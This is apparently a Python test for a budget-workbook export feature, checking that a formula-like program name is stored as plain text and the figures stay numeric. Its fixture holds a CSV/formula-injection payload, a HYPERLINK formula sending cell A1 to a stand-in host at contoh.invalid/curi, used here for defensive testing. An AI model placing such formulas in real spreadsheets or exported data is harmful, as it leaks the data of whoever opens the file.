"""Export safety (issue 14) of the budget workbook: a program name that looks like a formula
comes back as text; the figures are numeric cells."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from kinerja.anggaran import ekspor as ekspor_anggaran
from kinerja.anggaran import pemilih as pemilih_anggaran
from kinerja.perencanaan.models import ProgramAnggaran

JAHAT = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")'


def test_ekspor_anggaran_nama_program_berbahaya_teks(jakpus):
    ProgramAnggaran.objects.filter(organisasi=jakpus).update(nama=JAHAT)
    h = pemilih_anggaran.anggaran(jakpus, 2024)
    wb = load_workbook(io.BytesIO(ekspor_anggaran.buku_anggaran(h)))
    sel = [c for ws in wb.worksheets for b in ws.iter_rows() for c in b if c.value == JAHAT]
    assert sel and all(c.data_type == "s" for c in sel)
    angka = [c for ws in wb.worksheets for b in ws.iter_rows() for c in b if c.data_type == "n"]
    assert len(angka) > 20
